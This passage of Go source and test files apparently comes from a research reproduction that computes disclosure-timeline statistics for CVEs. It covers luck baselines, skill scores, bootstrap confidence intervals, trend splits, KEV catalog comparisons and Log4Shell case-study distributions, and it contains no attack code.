		if tl[i] != before[i] {
			t.Fatalf("timeline %d mutated", i)
		}
	}
}
