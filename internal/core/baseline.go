package core

import (
	"math/rand"

	"repro/internal/lifecycle"
)

// PublishedBaselines returns the baseline desideratum-satisfaction
// probabilities from Householder & Spring [20], which the paper's Table 4
// adopts verbatim ("Baseline satisfaction rate is that shown in prior
// work"). Keys are desiderata in Desiderata() order.
//
// These constants come from the prior work's luck model; the enumeration
// machinery below (BaselineUniform, BaselineWalk) implements the two natural
// formalizations of "random histories" for comparison and for ablation —
// neither reproduces the published constants exactly, which is documented
// in EXPERIMENTS.md rather than silently fudged.
func PublishedBaselines() map[Pair]float64 {
	d := Desiderata()
	vals := []float64{0.75, 0.11, 0.33, 0.38, 0.04, 0.17, 0.19, 0.67, 0.50}
	out := make(map[Pair]float64, len(d))
	for i, p := range d {
		out[p] = vals[i]
	}
	return out
}

// histories enumerates every ordering of the six events that satisfies the
// matrix's requirements, along with each ordering's probability weight under
// the chosen model.
type historyModel int

// Baseline models.
const (
	// ModelUniform weights every valid history equally.
	ModelUniform historyModel = iota
	// ModelWalk weights histories by a Markov random walk with uniformly
	// distributed transitions: at each step the next event is chosen
	// uniformly among events whose prerequisites have occurred.
	ModelWalk
)

// enumerate returns all valid histories and their weights (normalized).
func enumerate(m *Matrix, model historyModel) (orders [][]lifecycle.EventType, weights []float64) {
	events := lifecycle.EventTypes()
	reqs := m.Requirements()
	prereq := map[lifecycle.EventType][]lifecycle.EventType{}
	for _, r := range reqs {
		prereq[r.B] = append(prereq[r.B], r.A)
	}
	var cur []lifecycle.EventType
	done := map[lifecycle.EventType]bool{}
	var total float64

	var rec func(weight float64)
	rec = func(weight float64) {
		if len(cur) == len(events) {
			h := make([]lifecycle.EventType, len(cur))
			copy(h, cur)
			orders = append(orders, h)
			weights = append(weights, weight)
			total += weight
			return
		}
		var avail []lifecycle.EventType
		for _, e := range events {
			if done[e] {
				continue
			}
			ok := true
			for _, p := range prereq[e] {
				if !done[p] {
					ok = false
					break
				}
			}
			if ok {
				avail = append(avail, e)
			}
		}
		for _, e := range avail {
			w := weight
			if model == ModelWalk {
				w = weight / float64(len(avail))
			}
			done[e] = true
			cur = append(cur, e)
			rec(w)
			cur = cur[:len(cur)-1]
			done[e] = false
		}
	}
	rec(1)
	for i := range weights {
		weights[i] /= total
	}
	return orders, weights
}

// BaselineProbabilities computes, for each desideratum, the probability a
// random history satisfies it under the given matrix and model.
func BaselineProbabilities(m *Matrix, model historyModel) map[Pair]float64 {
	orders, weights := enumerate(m, model)
	out := map[Pair]float64{}
	for _, d := range Desiderata() {
		var p float64
		for i, o := range orders {
			if indexOf(o, d.A) < indexOf(o, d.B) {
				p += weights[i]
			}
		}
		out[d] = p
	}
	return out
}

// NumHistories returns the number of valid histories under the matrix.
func NumHistories(m *Matrix) int {
	orders, _ := enumerate(m, ModelUniform)
	return len(orders)
}

func indexOf(o []lifecycle.EventType, e lifecycle.EventType) int {
	for i, x := range o {
		if x == e {
			return i
		}
	}
	return -1
}

// MonteCarloBaseline estimates the walk-model baseline by simulation with n
// sampled histories. It exists for the exact-vs-Monte-Carlo ablation bench;
// results converge to BaselineProbabilities(m, ModelWalk).
func MonteCarloBaseline(m *Matrix, n int, seed int64) map[Pair]float64 {
	rng := rand.New(rand.NewSource(seed))
	events := lifecycle.EventTypes()
	reqs := m.Requirements()
	prereq := map[lifecycle.EventType][]lifecycle.EventType{}
	for _, r := range reqs {
		prereq[r.B] = append(prereq[r.B], r.A)
	}
	counts := map[Pair]int{}
	order := make([]lifecycle.EventType, 0, len(events))
	for trial := 0; trial < n; trial++ {
		order = order[:0]
		done := map[lifecycle.EventType]bool{}
		for len(order) < len(events) {
			var avail []lifecycle.EventType
			for _, e := range events {
				if done[e] {
					continue
				}
				ok := true
				for _, p := range prereq[e] {
					if !done[p] {
						ok = false
						break
					}
				}
				if ok {
					avail = append(avail, e)
				}
			}
			e := avail[rng.Intn(len(avail))]
			done[e] = true
			order = append(order, e)
		}
		for _, d := range Desiderata() {
			if indexOf(order, d.A) < indexOf(order, d.B) {
				counts[d]++
			}
		}
	}
	out := map[Pair]float64{}
	for _, d := range Desiderata() {
		out[d] = float64(counts[d]) / float64(n)
	}
	return out
}
