package core

import (
	"time"

	"repro/internal/datasets"
	"repro/internal/lifecycle"
)

// Skill trend over time. The paper positions its measurement as "a baseline
// for measuring trends in future vulnerability disclosure" (Section 5
// takeaways) and expects the dataset to "be useful for analyzing the
// evolution of CVD effectiveness over time as more years of data are
// collected" (Section 4). This analysis slices the studied CVEs into
// publication-date periods and evaluates the CERT skill in each.

// PeriodSkill is one period's evaluation.
type PeriodSkill struct {
	// Start and End bound the period (CVEs are assigned by publication).
	Start time.Time
	End   time.Time
	// CVEs is how many studied CVEs fall in the period.
	CVEs int
	// MeanSkill across the nine desiderata for this period's CVEs.
	MeanSkill float64
	// Results carries the full per-desideratum rows.
	Results []DesideratumResult
}

// SkillTrend splits timelines into n equal publication-date periods across
// the study window and evaluates each. Periods with no CVEs report zero
// CVEs and no results.
func SkillTrend(timelines []lifecycle.Timeline, baselines map[Pair]float64, n int) []PeriodSkill {
	if n < 1 {
		n = 1
	}
	start := datasets.StudyWindow.Start
	end := datasets.StudyWindow.End
	span := end.Sub(start) / time.Duration(n)
	out := make([]PeriodSkill, n)
	buckets := make([][]lifecycle.Timeline, n)
	for i := range out {
		out[i].Start = start.Add(time.Duration(i) * span)
		out[i].End = out[i].Start.Add(span)
	}
	for _, tl := range timelines {
		p, ok := tl.Get(lifecycle.PublicAware)
		if !ok {
			continue
		}
		idx := int(p.Sub(start) / span)
		if idx < 0 {
			idx = 0
		}
		if idx >= n {
			idx = n - 1
		}
		buckets[idx] = append(buckets[idx], tl)
	}
	for i := range out {
		out[i].CVEs = len(buckets[i])
		if len(buckets[i]) == 0 {
			continue
		}
		out[i].Results = EvaluateDesiderata(buckets[i], baselines)
		out[i].MeanSkill = MeanSkill(out[i].Results)
	}
	return out
}

// ImpactStratifiedSkill splits timelines at a CVSS threshold and evaluates
// each stratum. Finding 1 argues the telescope's high-impact bias is "at
// worst neutral"; comparing skill across strata is the check that claim
// invites.
type ImpactStratifiedSkill struct {
	Threshold float64
	// Critical holds CVEs with Impact >= Threshold, Rest the others.
	Critical PeriodSkill
	Rest     PeriodSkill
}

// StratifyByImpact evaluates desiderata separately for CVEs at or above the
// CVSS threshold and below it.
func StratifyByImpact(timelines []lifecycle.Timeline, baselines map[Pair]float64, threshold float64) ImpactStratifiedSkill {
	var hi, lo []lifecycle.Timeline
	for _, tl := range timelines {
		if tl.Impact >= threshold {
			hi = append(hi, tl)
		} else {
			lo = append(lo, tl)
		}
	}
	out := ImpactStratifiedSkill{Threshold: threshold}
	out.Critical.CVEs = len(hi)
	out.Rest.CVEs = len(lo)
	if len(hi) > 0 {
		out.Critical.Results = EvaluateDesiderata(hi, baselines)
		out.Critical.MeanSkill = MeanSkill(out.Critical.Results)
	}
	if len(lo) > 0 {
		out.Rest.Results = EvaluateDesiderata(lo, baselines)
		out.Rest.MeanSkill = MeanSkill(out.Rest.Results)
	}
	return out
}
