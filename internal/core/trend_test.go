package core

import (
	"testing"

	"repro/internal/lifecycle"
)

func TestSkillTrendPartitionsAllCVEs(t *testing.T) {
	tl := lifecycle.StudyTimelines()
	for _, n := range []int{1, 2, 4, 8} {
		periods := SkillTrend(tl, PublishedBaselines(), n)
		if len(periods) != n {
			t.Fatalf("n=%d: periods = %d", n, len(periods))
		}
		total := 0
		for i, p := range periods {
			total += p.CVEs
			if i > 0 && !periods[i-1].End.Equal(p.Start) {
				t.Errorf("n=%d: period %d not contiguous", n, i)
			}
		}
		if total != 63 {
			t.Errorf("n=%d: partitioned %d CVEs, want 63", n, total)
		}
	}
}

func TestSkillTrendSinglePeriodMatchesOverall(t *testing.T) {
	tl := lifecycle.StudyTimelines()
	periods := SkillTrend(tl, PublishedBaselines(), 1)
	overall := MeanSkill(EvaluateDesiderata(tl, PublishedBaselines()))
	if periods[0].MeanSkill != overall {
		t.Errorf("single period skill %.4f != overall %.4f", periods[0].MeanSkill, overall)
	}
}

func TestSkillTrendHalves(t *testing.T) {
	tl := lifecycle.StudyTimelines()
	periods := SkillTrend(tl, PublishedBaselines(), 2)
	// The study's CVEs are roughly evenly published (Figure 1), so both
	// halves must be populated and skillful in the aggregate sense.
	for i, p := range periods {
		if p.CVEs < 15 {
			t.Errorf("period %d has only %d CVEs", i, p.CVEs)
		}
		if p.MeanSkill < 0.1 {
			t.Errorf("period %d mean skill %.3f implausibly low", i, p.MeanSkill)
		}
	}
}

func TestSkillTrendDegenerate(t *testing.T) {
	periods := SkillTrend(nil, PublishedBaselines(), 0)
	if len(periods) != 1 || periods[0].CVEs != 0 {
		t.Errorf("degenerate trend = %+v", periods)
	}
}

func TestStratifyByImpact(t *testing.T) {
	tl := lifecycle.StudyTimelines()
	s := StratifyByImpact(tl, PublishedBaselines(), 9.0)
	if s.Critical.CVEs+s.Rest.CVEs != 63 {
		t.Fatalf("strata sum to %d", s.Critical.CVEs+s.Rest.CVEs)
	}
	// Finding 1: the set skews critical.
	if s.Critical.CVEs < 2*s.Rest.CVEs {
		t.Errorf("critical %d vs rest %d; studied CVEs should skew critical", s.Critical.CVEs, s.Rest.CVEs)
	}
	// Both strata exhibit positive skill (the claim that the bias is at
	// worst neutral would fail if the critical stratum showed none).
	if s.Critical.MeanSkill <= 0 {
		t.Errorf("critical-stratum mean skill = %.3f", s.Critical.MeanSkill)
	}
	if s.Rest.CVEs > 5 && s.Rest.MeanSkill <= 0 {
		t.Errorf("non-critical mean skill = %.3f", s.Rest.MeanSkill)
	}
}

func TestStratifyDegenerate(t *testing.T) {
	s := StratifyByImpact(nil, PublishedBaselines(), 9)
	if s.Critical.CVEs != 0 || s.Rest.CVEs != 0 {
		t.Errorf("empty stratify = %+v", s)
	}
}
