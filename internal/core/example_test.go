package core_test

import (
	"fmt"

	"repro/internal/core"
	"repro/internal/lifecycle"
)

func ExampleSkill() {
	// Observed satisfaction 0.90 against a luck baseline of 0.75
	// (the V < A desideratum in Table 4).
	fmt.Printf("%.2f\n", core.Skill(0.90, 0.75))
	// Output: 0.60
}

func ExampleEvaluateDesiderata() {
	results := core.EvaluateDesiderata(lifecycle.StudyTimelines(), core.PublishedBaselines())
	for _, r := range results[:2] {
		fmt.Printf("%s satisfied %.2f skill %.2f\n", r.Pair, r.Satisfied, r.Skill)
	}
	// Output:
	// V < A satisfied 0.90 skill 0.61
	// F < P satisfied 0.13 skill 0.03
}
