package core

import (
	"fmt"

	"repro/internal/lifecycle"
	"repro/internal/stats"
)

// WindowSamples computes, in days, the distribution of (b − a) across
// timelines where both events are known. This is the quantity behind the
// paper's time-series desiderata CDFs: positive values are buffer when the
// desideratum a<b held, negative values are windows of vulnerability.
//
// Figure 5a is WindowSamples(A, D) (A − D), 5b is (P, D), 5c is (A, P);
// Figures 13–18 are (A,V), (P,F), (X,F), (A,F), (X,D), (A,X).
func WindowSamples(timelines []lifecycle.Timeline, b, a lifecycle.EventType) []float64 {
	var out []float64
	for i := range timelines {
		d, ok := timelines[i].Diff(b, a)
		if !ok {
			continue
		}
		out = append(out, d.Hours()/24)
	}
	return out
}

// WindowCDF is one desiderata time-difference figure.
type WindowCDF struct {
	// Label is the paper's axis label, e.g. "A - D".
	Label string
	// Desideratum is the underlying ordering (a before b means positive
	// diff values satisfy it).
	Desideratum Pair
	// Samples are the day-valued differences.
	Samples []float64
	// CDF is the empirical distribution (nil when no samples).
	CDF *stats.ECDF
	// SatisfiedAtZero is P(diff > 0), the desideratum satisfaction rate
	// printed in each figure caption.
	SatisfiedAtZero float64
}

// NewWindowCDF builds the figure data for diff = b − a with desideratum
// a < b.
func NewWindowCDF(timelines []lifecycle.Timeline, b, a lifecycle.EventType) WindowCDF {
	samples := WindowSamples(timelines, b, a)
	w := WindowCDF{
		Label:       fmt.Sprintf("%s - %s", b.Letter(), a.Letter()),
		Desideratum: Pair{A: a, B: b},
		Samples:     samples,
	}
	if len(samples) > 0 {
		w.CDF = stats.MustECDF(samples)
		w.SatisfiedAtZero = 1 - w.CDF.At(0)
	}
	return w
}

// PaperWindowCDFs returns all nine window figures (5a–5c and 13–18) in
// paper order.
func PaperWindowCDFs(timelines []lifecycle.Timeline) []WindowCDF {
	V, F, D, P, X, A := lifecycle.VendorAware, lifecycle.FixReady, lifecycle.FixDeployed,
		lifecycle.PublicAware, lifecycle.ExploitPub, lifecycle.Attacks
	specs := []struct{ b, a lifecycle.EventType }{
		{A, D}, // Figure 5a
		{P, D}, // Figure 5b
		{A, P}, // Figure 5c
		{A, V}, // Figure 13
		{P, F}, // Figure 14
		{X, F}, // Figure 15
		{A, F}, // Figure 16
		{X, D}, // Figure 17
		{A, X}, // Figure 18
	}
	out := make([]WindowCDF, 0, len(specs))
	for _, s := range specs {
		out = append(out, NewWindowCDF(timelines, s.b, s.a))
	}
	return out
}

// HypotheticalShift answers the paper's "shift the CDF right by x days"
// reading of the window figures: the satisfaction rate if every CVE's event
// a happened x days earlier (equivalently, P(diff > -x)).
func (w WindowCDF) HypotheticalShift(days float64) float64 {
	if w.CDF == nil {
		return 0
	}
	return 1 - w.CDF.At(-days)
}
