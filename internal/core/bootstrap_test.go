package core

import (
	"testing"

	"repro/internal/lifecycle"
)

func TestBootstrapDesiderata(t *testing.T) {
	tl := lifecycle.StudyTimelines()
	results, err := BootstrapDesiderata(tl, PublishedBaselines(), 400, 0.95, 1)
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != 9 {
		t.Fatalf("results = %d", len(results))
	}
	for _, r := range results {
		if r.SatisfiedCI.Lo > r.SatisfiedCI.Hi {
			t.Errorf("%s: inverted interval %v", r.Pair, r.SatisfiedCI)
		}
		// The interval must cover the point estimate.
		if !r.SatisfiedCI.Contains(r.Satisfied) {
			t.Errorf("%s: CI %v excludes point %.3f", r.Pair, r.SatisfiedCI, r.Satisfied)
		}
		// With 63 CVEs the intervals are wide but informative: bounded
		// within [0,1] and narrower than the trivial interval.
		if r.SatisfiedCI.Lo < 0 || r.SatisfiedCI.Hi > 1 {
			t.Errorf("%s: CI %v out of range", r.Pair, r.SatisfiedCI)
		}
		if r.SatisfiedCI.Hi-r.SatisfiedCI.Lo >= 0.95 {
			t.Errorf("%s: CI %v degenerate", r.Pair, r.SatisfiedCI)
		}
	}
	// X<A (n=33) must be wider than P<A (n=62): less data, more spread.
	var xa, pa BootstrapResult
	for _, r := range results {
		switch r.Pair.String() {
		case "X < A":
			xa = r
		case "P < A":
			pa = r
		}
	}
	if xa.SatisfiedCI.Hi-xa.SatisfiedCI.Lo <= pa.SatisfiedCI.Hi-pa.SatisfiedCI.Lo {
		t.Errorf("X<A CI %v not wider than P<A CI %v", xa.SatisfiedCI, pa.SatisfiedCI)
	}
}

func TestBootstrapMeanSkill(t *testing.T) {
	tl := lifecycle.StudyTimelines()
	ci, err := BootstrapMeanSkill(tl, PublishedBaselines(), 400, 0.95, 2)
	if err != nil {
		t.Fatal(err)
	}
	if !ci.Contains(0.37) {
		t.Errorf("mean-skill CI %v excludes the paper's 0.37", ci)
	}
	if ci.Hi-ci.Lo > 0.3 {
		t.Errorf("mean-skill CI %v implausibly wide", ci)
	}
	// Finding 3's qualitative claim — skill is positive — survives the
	// uncertainty: zero is outside the interval.
	if ci.Contains(0) {
		t.Errorf("mean-skill CI %v includes zero; skillfulness not established", ci)
	}
}

func TestBootstrapDeterministic(t *testing.T) {
	tl := lifecycle.StudyTimelines()
	a, _ := BootstrapMeanSkill(tl, PublishedBaselines(), 100, 0.9, 7)
	b, _ := BootstrapMeanSkill(tl, PublishedBaselines(), 100, 0.9, 7)
	if a != b {
		t.Errorf("same seed differs: %v vs %v", a, b)
	}
}

func TestBootstrapValidation(t *testing.T) {
	tl := lifecycle.StudyTimelines()
	if _, err := BootstrapDesiderata(tl, PublishedBaselines(), 5, 0.95, 1); err == nil {
		t.Error("tiny resample count accepted")
	}
	if _, err := BootstrapDesiderata(tl, PublishedBaselines(), 100, 1.5, 1); err == nil {
		t.Error("bad level accepted")
	}
	if _, err := BootstrapDesiderata(nil, PublishedBaselines(), 100, 0.95, 1); err == nil {
		t.Error("empty timelines accepted")
	}
	if _, err := BootstrapMeanSkill(nil, PublishedBaselines(), 100, 0.95, 1); err == nil {
		t.Error("empty timelines accepted for mean skill")
	}
}
