package core

import (
	"sort"
	"time"

	"repro/internal/datasets"
	"repro/internal/ids"
	"repro/internal/lifecycle"
	"repro/internal/stats"
)

// KEV comparison (Section 7.2): the telescope's exploitation evidence versus
// CISA's Known Exploited Vulnerabilities catalog.

// KEVComparison summarizes the join between study timelines and KEV.
type KEVComparison struct {
	// KevAMinusP is Figure 10: KEV addition minus publication, in days,
	// over the whole filtered catalog.
	KevAMinusP *stats.ECDF
	// KevPrePublicationRate is P(A < P) in KEV (the paper reports 18%).
	KevPrePublicationRate float64
	// DscopePrePublicationRate is P(A < P) over study timelines (10%).
	DscopePrePublicationRate float64

	// OverlapCount is the number of study CVEs present in KEV (44).
	OverlapCount int
	// OverlapShare of the 63 (70%).
	OverlapShare float64

	// DeltaDays is Figure 11: per overlap CVE, KEV addition minus first
	// telescope-observed exploitation, in days. Positive = telescope first.
	DeltaDays []float64
	// Delta is the ECDF of DeltaDays.
	Delta *stats.ECDF
	// DscopeFirstShare is the fraction of overlap CVEs the telescope saw
	// first (59%).
	DscopeFirstShare float64
	// Over30DaysShare is the fraction seen >30 days before KEV (50%).
	Over30DaysShare float64
}

// CompareKEV joins study timelines against a KEV catalog.
func CompareKEV(timelines []lifecycle.Timeline, kev datasets.KEVCatalog) KEVComparison {
	var cmp KEVComparison

	samples := kev.AMinusPSamples()
	if len(samples) > 0 {
		cmp.KevAMinusP = stats.MustECDF(samples)
		cmp.KevPrePublicationRate = cmp.KevAMinusP.Below(0)
	}

	pre, withA := 0, 0
	for i := range timelines {
		a, okA := timelines[i].Get(lifecycle.Attacks)
		p, okP := timelines[i].Get(lifecycle.PublicAware)
		if !okA || !okP {
			continue
		}
		withA++
		if a.Before(p) {
			pre++
		}
	}
	if withA > 0 {
		cmp.DscopePrePublicationRate = float64(pre) / float64(withA)
	}

	var dscopeFirst, over30, joined int
	for i := range timelines {
		t := &timelines[i]
		entry, ok := kev.Overlap[t.CVE]
		if !ok {
			continue
		}
		cmp.OverlapCount++
		a, okA := t.Get(lifecycle.Attacks)
		if !okA {
			continue
		}
		joined++
		delta := entry.DateAdded.Sub(a)
		cmp.DeltaDays = append(cmp.DeltaDays, delta.Hours()/24)
		if delta > 0 {
			dscopeFirst++
			if delta > 30*24*time.Hour {
				over30++
			}
		}
	}
	if len(timelines) > 0 {
		cmp.OverlapShare = float64(cmp.OverlapCount) / float64(len(timelines))
	}
	if joined > 0 {
		cmp.DscopeFirstShare = float64(dscopeFirst) / float64(joined)
		cmp.Over30DaysShare = float64(over30) / float64(joined)
	}
	sort.Float64s(cmp.DeltaDays)
	if len(cmp.DeltaDays) > 0 {
		cmp.Delta = stats.MustECDF(cmp.DeltaDays)
	}
	return cmp
}

// KEVProposal is one automated catalog addition derived from telescope
// evidence — the paper's closing recommendation: "application-layer data
// from interactive Internet telescopes will prove valuable when used to
// automatically inform additions to vulnerability repositories such as
// KEV".
type KEVProposal struct {
	CVE string
	// FirstSeen is the earliest exploit event.
	FirstSeen time.Time
	// Events is the exploitation evidence volume.
	Events int
	// InCatalog reports whether KEV already lists the CVE.
	InCatalog bool
	// LeadDays is how many days the proposal beats the catalog's own
	// addition (0 when not in the catalog or when KEV was first).
	LeadDays float64
}

// ProposeKEVAdditions derives automated KEV additions from exploit events:
// any CVE with at least minEvents observed exploitations. Results are
// sorted by evidence volume. Proposals for CVEs already in the catalog
// report how far the telescope's evidence leads the manual addition.
func ProposeKEVAdditions(events []ids.Event, kev datasets.KEVCatalog, minEvents int) []KEVProposal {
	if minEvents < 1 {
		minEvents = 1
	}
	type acc struct {
		first time.Time
		count int
	}
	byCVE := map[string]*acc{}
	for i := range events {
		ev := &events[i]
		if ev.CVE == "" {
			continue
		}
		a := byCVE[ev.CVE]
		if a == nil {
			a = &acc{first: ev.Time}
			byCVE[ev.CVE] = a
		}
		if ev.Time.Before(a.first) {
			a.first = ev.Time
		}
		a.count++
	}
	var out []KEVProposal
	for cve, a := range byCVE {
		if a.count < minEvents {
			continue
		}
		p := KEVProposal{CVE: cve, FirstSeen: a.first, Events: a.count}
		if entry, ok := kev.Overlap[cve]; ok {
			p.InCatalog = true
			if lead := entry.DateAdded.Sub(a.first); lead > 0 {
				p.LeadDays = lead.Hours() / 24
			}
		}
		out = append(out, p)
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Events != out[j].Events {
			return out[i].Events > out[j].Events
		}
		return out[i].CVE < out[j].CVE
	})
	return out
}
