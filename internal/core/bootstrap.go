package core

import (
	"fmt"
	"math/rand"
	"sort"

	"repro/internal/lifecycle"
)

// Bootstrap confidence intervals (extension). Table 4 rests on 63 CVEs —
// and as few as 31 for the X-involving desiderata — so point estimates
// deserve uncertainty. Resampling CVEs with replacement gives percentile
// intervals for each satisfaction rate and for the mean skill without any
// distributional assumption.

// CI is a two-sided percentile confidence interval.
type CI struct {
	Lo float64
	Hi float64
}

// Contains reports whether v lies inside the interval.
func (c CI) Contains(v float64) bool { return v >= c.Lo && v <= c.Hi }

// String renders the interval.
func (c CI) String() string { return fmt.Sprintf("[%.2f, %.2f]", c.Lo, c.Hi) }

// BootstrapResult carries the intervals for one desideratum.
type BootstrapResult struct {
	Pair Pair
	// Satisfied is the point estimate (as in Table 4).
	Satisfied float64
	// SatisfiedCI is the bootstrap interval for the satisfaction rate.
	SatisfiedCI CI
	// SkillCI is the bootstrap interval for the skill value.
	SkillCI CI
}

// BootstrapDesiderata resamples the timelines n times (with replacement)
// and returns per-desideratum percentile intervals at the given confidence
// level (e.g. 0.95). Resamples where a desideratum has no evaluable CVEs
// contribute a zero rate, which keeps the interval honest about sparse
// pairs.
func BootstrapDesiderata(timelines []lifecycle.Timeline, baselines map[Pair]float64, n int, level float64, seed int64) ([]BootstrapResult, error) {
	if n < 10 {
		return nil, fmt.Errorf("core: bootstrap needs at least 10 resamples, got %d", n)
	}
	if level <= 0 || level >= 1 {
		return nil, fmt.Errorf("core: confidence level %v out of (0,1)", level)
	}
	if len(timelines) == 0 {
		return nil, fmt.Errorf("core: bootstrap needs timelines")
	}
	rng := rand.New(rand.NewSource(seed))
	desiderata := Desiderata()
	satSamples := make([][]float64, len(desiderata))
	skillSamples := make([][]float64, len(desiderata))

	resample := make([]lifecycle.Timeline, len(timelines))
	for trial := 0; trial < n; trial++ {
		for i := range resample {
			resample[i] = timelines[rng.Intn(len(timelines))]
		}
		results := EvaluateDesiderata(resample, baselines)
		for di, r := range results {
			satSamples[di] = append(satSamples[di], r.Satisfied)
			skillSamples[di] = append(skillSamples[di], r.Skill)
		}
	}

	point := EvaluateDesiderata(timelines, baselines)
	out := make([]BootstrapResult, len(desiderata))
	for di := range desiderata {
		out[di] = BootstrapResult{
			Pair:        desiderata[di],
			Satisfied:   point[di].Satisfied,
			SatisfiedCI: percentileCI(satSamples[di], level),
			SkillCI:     percentileCI(skillSamples[di], level),
		}
	}
	return out, nil
}

// BootstrapMeanSkill returns the interval for Finding 3's mean skill.
func BootstrapMeanSkill(timelines []lifecycle.Timeline, baselines map[Pair]float64, n int, level float64, seed int64) (CI, error) {
	if n < 10 {
		return CI{}, fmt.Errorf("core: bootstrap needs at least 10 resamples, got %d", n)
	}
	if len(timelines) == 0 {
		return CI{}, fmt.Errorf("core: bootstrap needs timelines")
	}
	rng := rand.New(rand.NewSource(seed))
	samples := make([]float64, 0, n)
	resample := make([]lifecycle.Timeline, len(timelines))
	for trial := 0; trial < n; trial++ {
		for i := range resample {
			resample[i] = timelines[rng.Intn(len(timelines))]
		}
		samples = append(samples, MeanSkill(EvaluateDesiderata(resample, baselines)))
	}
	return percentileCI(samples, level), nil
}

// percentileCI computes the two-sided percentile interval.
func percentileCI(samples []float64, level float64) CI {
	s := append([]float64(nil), samples...)
	sort.Float64s(s)
	alpha := (1 - level) / 2
	lo := int(alpha * float64(len(s)))
	hi := int((1 - alpha) * float64(len(s)))
	if hi >= len(s) {
		hi = len(s) - 1
	}
	return CI{Lo: s[lo], Hi: s[hi]}
}
