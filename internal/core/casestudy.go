package core

import (
	"sort"
	"time"

	"repro/internal/datasets"
	"repro/internal/ids"
	"repro/internal/stats"
)

// Case-study analyses (Section 7.1 and Appendix C): retrospective looks at
// individual high-profile CVEs through the same event stream.

// SessionCDF is a per-CVE session/event CDF over absolute time (Figures 8
// and 12).
type SessionCDF struct {
	CVE string
	// Times are the event times, ascending.
	Times []time.Time
	// DaysSince are offsets in days from the CVE's publication.
	DaysSince []float64
	// CDF over DaysSince.
	CDF *stats.ECDF
}

// CaseStudyCDF extracts one CVE's event CDF relative to its publication.
func CaseStudyCDF(events []ids.Event, cve string, published time.Time) SessionCDF {
	out := SessionCDF{CVE: cve}
	for i := range events {
		if events[i].CVE != cve {
			continue
		}
		out.Times = append(out.Times, events[i].Time)
	}
	sort.Slice(out.Times, func(i, j int) bool { return out.Times[i].Before(out.Times[j]) })
	out.DaysSince = make([]float64, len(out.Times))
	for i, t := range out.Times {
		out.DaysSince[i] = t.Sub(published).Hours() / 24
	}
	if len(out.DaysSince) > 0 {
		out.CDF = stats.MustECDF(out.DaysSince)
	}
	return out
}

// VariantSeries is Figure 9: per Log4Shell signature group, the CDF of that
// group's sessions over a window after publication.
type VariantSeries struct {
	Group string
	SIDs  []int
	// DaysSince are publication-relative event days within the window.
	DaysSince []float64
	CDF       *stats.ECDF
}

// Log4ShellVariantSeries splits Log4Shell events by Table 6 signature group
// over the given post-publication window (the paper uses December 2021,
// ~21 days).
func Log4ShellVariantSeries(events []ids.Event, windowDays float64) []VariantSeries {
	groupOf := map[int]string{}
	var order []string
	var groupSIDs = map[string][]int{}
	for _, g := range datasets.Log4ShellGroups() {
		order = append(order, g.Name)
		for _, s := range g.SIDs {
			groupOf[s.SID] = g.Name
			groupSIDs[g.Name] = append(groupSIDs[g.Name], s.SID)
		}
	}
	pub := datasets.Log4ShellPublished
	byGroup := map[string][]float64{}
	for i := range events {
		ev := &events[i]
		if ev.CVE != "2021-44228" {
			continue
		}
		g, ok := groupOf[ev.SID]
		if !ok {
			continue
		}
		rel := ev.Time.Sub(pub).Hours() / 24
		if rel < 0 || rel > windowDays {
			continue
		}
		byGroup[g] = append(byGroup[g], rel)
	}
	var out []VariantSeries
	for _, g := range order {
		vs := VariantSeries{Group: g, SIDs: groupSIDs[g], DaysSince: byGroup[g]}
		sort.Float64s(vs.DaysSince)
		if len(vs.DaysSince) > 0 {
			vs.CDF = stats.MustECDF(vs.DaysSince)
		}
		out = append(out, vs)
	}
	return out
}

// CaseStudyReport carries the Finding-13/18 style headline numbers for one
// CVE.
type CaseStudyReport struct {
	CVE string
	// Sessions observed.
	Sessions int
	// First and Last event offsets, in days from publication.
	FirstDay float64
	LastDay  float64
	// MitigatedShare is the fraction of the CVE's events that struck after
	// its rule deployed (Confluence: 99.6% in the paper).
	MitigatedShare float64
	// Within30Share is the fraction of post-publication events within the
	// first 30 days.
	Within30Share float64
}

// CaseStudy computes the report for one study CVE.
func CaseStudy(events []ids.Event, cveID string) CaseStudyReport {
	rep := CaseStudyReport{CVE: cveID}
	meta := datasets.StudyCVEByID(cveID)
	if meta == nil {
		return rep
	}
	var deployed time.Time
	hasRule := meta.DMinusP.Known
	if hasRule {
		deployed = meta.Published.Add(meta.DMinusP.D)
	}
	mitigated := 0
	post, within30 := 0, 0
	first, last := 0.0, 0.0
	for i := range events {
		ev := &events[i]
		if ev.CVE != cveID {
			continue
		}
		rel := ev.Time.Sub(meta.Published).Hours() / 24
		if rep.Sessions == 0 || rel < first {
			first = rel
		}
		if rep.Sessions == 0 || rel > last {
			last = rel
		}
		rep.Sessions++
		if hasRule && ev.Time.After(deployed) {
			mitigated++
		}
		if rel > 0 {
			post++
			if rel <= 30 {
				within30++
			}
		}
	}
	rep.FirstDay, rep.LastDay = first, last
	if rep.Sessions > 0 {
		rep.MitigatedShare = float64(mitigated) / float64(rep.Sessions)
	}
	if post > 0 {
		rep.Within30Share = float64(within30) / float64(post)
	}
	return rep
}
