package core

import (
	"time"

	"repro/internal/ids"
	"repro/internal/lifecycle"
	"repro/internal/stats"
)

// Quantitative system exposure (Section 6.2): the same desiderata evaluated
// per exploit event rather than per CVE, which is how the paper shows that
// discrete per-CVE scoring understates real-world CVD effectiveness
// (Table 5: D < A holds for 95% of exploit traffic vs 56% of CVEs).

// timelineIndex maps CVE ids to their timelines.
func timelineIndex(timelines []lifecycle.Timeline) map[string]*lifecycle.Timeline {
	idx := make(map[string]*lifecycle.Timeline, len(timelines))
	for i := range timelines {
		idx[timelines[i].CVE] = &timelines[i]
	}
	return idx
}

// EvaluatePerEvent computes Table 5: for each desideratum a<b where b is A
// (attacks), an event at time t counts as satisfied iff a occurred before t;
// for desiderata not involving A, each event inherits its CVE's per-CVE
// verdict (weighting CVEs by exploit volume). Events for CVEs without a
// timeline, or where the first event is unknown, are skipped per pair.
func EvaluatePerEvent(events []ids.Event, timelines []lifecycle.Timeline, baselines map[Pair]float64) []DesideratumResult {
	idx := timelineIndex(timelines)
	out := make([]DesideratumResult, 0, len(Desiderata()))
	for _, d := range Desiderata() {
		res := DesideratumResult{Pair: d, Baseline: baselines[d]}
		for i := range events {
			ev := &events[i]
			t, ok := idx[ev.CVE]
			if !ok {
				continue
			}
			if d.B == lifecycle.Attacks {
				ta, known := t.Get(d.A)
				if !known {
					continue
				}
				res.Evaluated++
				if ta.Before(ev.Time) {
